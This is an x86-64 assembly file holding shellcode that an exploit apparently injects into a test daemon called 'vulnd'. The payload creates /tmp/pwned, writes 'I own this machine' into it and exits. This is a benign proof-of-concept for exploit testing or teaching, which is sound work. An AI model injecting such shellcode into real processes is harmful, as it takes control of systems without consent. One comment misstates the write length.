/* SPDX-License-Identifier: GPL-2.0 */
/* What exploit sends: creates /tmp/pwned with a line in it, and ends vulnd. */

	.section .rodata
	.globl	shellcode, shellcode_end
shellcode:
	sub	$256, %rsp			/* the code lies where the stack is */
	mov	$2, %eax			/* open(path, O_WRONLY | O_CREAT, 0644) */
	lea	path(%rip), %rdi
	mov	$0101, %esi
	mov	$0644, %edx
	syscall
	mov	%eax, %edi
	mov	$1, %eax			/* write(fd, text, 17) */
	lea	text(%rip), %rsi
	mov	$(text_end - text), %edx
	syscall
	mov	$231, %eax			/* exit_group(0) */
	xor	%edi, %edi
	syscall
path:	.asciz	"/tmp/pwned"
text:	.ascii	"I own this machine\n"
text_end:
shellcode_end:

	.section .note.GNU-stack, "", @progbits
